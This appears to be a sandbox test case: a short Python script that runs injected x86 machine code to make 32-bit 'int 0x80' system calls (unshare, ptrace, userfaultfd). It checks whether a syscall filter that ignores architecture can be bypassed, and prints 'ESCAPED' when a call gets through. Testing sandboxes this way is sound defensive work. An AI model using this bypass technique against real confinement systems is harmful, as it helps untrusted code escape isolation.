# [attack]
# title = "Makes 32-bit system calls from machine code"
# mode = "program"
# verdict = ["ACCEPTED", "RUNTIME_ERROR", "FORBIDDEN"]
"""The numbers of the 32-bit table differ, so a filter that forgets the architecture lets anything pass."""
import ctypes
import mmap
import platform
import sys

if platform.machine() != "x86_64":
    sys.exit(0)
# push rbx; mov eax, edi; mov ebx, esi; xor ecx, ecx; xor edx, edx; int 0x80; cdqe; pop rbx; ret
code = bytes.fromhex("53 89f8 89f3 31c9 31d2 cd80 4898 5b c3")
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
call = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_uint, ctypes.c_uint)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
print("trying", flush=True)
for name, number, argument in (("getpid", 20, 0), ("unshare", 310, 0x10000000), ("ptrace traceme", 26, 0), ("userfaultfd", 374, 0)):
    done = call(number, argument)
    print(f"ESCAPED: {name} by int 0x80" if done >= 0 else f"blocked: {name} {-done}", flush=True)
